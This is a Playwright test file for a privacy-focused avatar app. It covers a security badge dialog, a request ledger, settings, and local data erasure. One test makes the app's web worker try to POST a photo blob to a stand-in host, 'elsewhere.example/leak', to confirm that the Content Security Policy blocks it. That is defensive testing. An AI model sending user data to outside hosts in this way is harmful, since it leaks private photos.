import { expect, test } from '../support/visit.ts';

test.describe('section 2: the badge and the ledger', () => {
  test('behind the badge stands what each word means here: on this machine no claim of encryption', async ({ page }) => {
    await page.goto('/about');
    await page.getByRole('button', { name: /SSL Secured/ }).click();
    const panel = page.getByRole('dialog', { name: 'What the badge means' });
    await expect(panel.getByText(/^Local connection/)).toBeVisible();
    await expect(panel.getByText(/^0 bytes of your photo were sent/)).toBeVisible();
    await panel.getByRole('link', { name: 'See every request' }).click();
    await expect(page).toHaveURL('/trust-security');
    await expect(panel).toBeHidden();
  });

  test('the browser’s own record accounts for the page and the engine’s worker, and shows what isn’t in the ledger', async ({ page, sandbox }) => {
    await page.goto('/customize');
    await page.getByRole('button', { name: 'Try with amara' }).click();
    await expect(page.getByRole('slider').first()).toBeVisible({ timeout: 60_000 });
    await page.getByRole('contentinfo').getByRole('link', { name: 'Trust & Security' }).click();
    const record = page.getByRole('region', { name: 'Your browser’s own record' });
    const own = record.getByRole('listitem').filter({ hasText: sandbox.appUrl });
    await expect(own).toContainText(/\d+ by the page, \d+ by the engine’s worker/);
    await expect(own).toContainText('The app’s own files');
    await expect(record.getByText('Not in the ledger')).toHaveCount(0);

    await page.evaluate(async (url) => (await fetch(url)).text(), `${sandbox.gateway.url}/v1/info`);
    await expect(record.getByRole('listitem').filter({ hasText: sandbox.gateway.url })).toContainText('Not in the ledger');
  });

  test('the engine’s worker can’t send anything to a host that the policy doesn’t name', async ({ page, problems }) => {
    problems.forgive(/Content Security Policy|Refused to connect|violates/);
    const reached: string[] = [];
    await page.context().route(/elsewhere\.example/, async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ body: 'taken', headers: { 'access-control-allow-origin': '*' } });
    });
    await page.goto('/customize');
    await page.getByRole('button', { name: 'Try with amara' }).click();
    await expect(page.getByRole('slider').first()).toBeVisible({ timeout: 60_000 });
    const [worker] = page.workers();
    if (!worker) throw new Error('the engine has no worker');
    const leak = await worker.evaluate(async () => {
      const photo = new Blob([new Uint8Array(1_000)]);
      const tries = [
        fetch('https://elsewhere.example/leak', { method: 'POST', body: photo }),
        fetch('https://elsewhere.example/leak', { method: 'POST', body: photo, mode: 'no-cors' }),
      ];
      return (await Promise.allSettled(tries)).map(({ status }) => status);
    });
    expect(leak).toEqual(['rejected', 'rejected']);
    expect(reached).toEqual([]);
  });
});

test.describe('section 2: settings', () => {
  test('samples can be left out, and what a photo begins with be chosen, for good', async ({ page }) => {
    await page.goto('/dashboard?tab=settings');
    await page.getByLabel('A new photo begins with the style').selectOption('Minimalist');
    await page.getByLabel('Show samples').uncheck();
    await page.getByRole('button', { name: 'Save Settings' }).click();
    await expect(page.getByText('Settings saved.')).toBeVisible();
    await page.goto('/dashboard');
    await expect(page.getByRole('tab', { name: 'My Avatars (0)' })).toBeVisible();
    await page.goto('/customize');
    await expect(page.getByRole('radio', { name: 'Minimalist' })).toBeChecked();
  });

  test('everything can be erased: nothing is left of it on this device', async ({ page }) => {
    await page.goto('/customize');
    await page.getByRole('button', { name: 'Try with amara' }).click();
    await expect(page.getByRole('slider').first()).toBeVisible({ timeout: 60_000 });
    await page.goto('/dashboard?tab=settings');
    await expect(page.getByRole('button', { name: 'Delete photo now' })).toBeVisible();
    await page.getByRole('button', { name: 'Erase everything' }).click();
    const dialog = page.getByRole('dialog', { name: 'Erase everything on this device?' });
    await expect(dialog.getByRole('button', { name: 'Erase everything' })).toBeDisabled();
    await dialog.getByLabel('I have saved what I want to keep').check();
    await dialog.getByRole('button', { name: 'Erase everything' }).click();
    await expect(page).toHaveURL('/');
    await page.goto('/about');
    await expect.poll(() => page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name))).toEqual([]);
    // What a first visit writes: that there is no photo, and where it has scrolled to.
    const left = await page.evaluate(() => Object.fromEntries([localStorage, sessionStorage].flatMap((area) => Object.keys(area).map((key) => [key, area.getItem(key)]))));
    expect(Object.keys(left).filter((key) => !['likeness.draft', 'react-router-scroll-positions'].includes(key))).toEqual([]);
    expect(left['likeness.draft'] ?? 'null').toBe('null');
  });
});
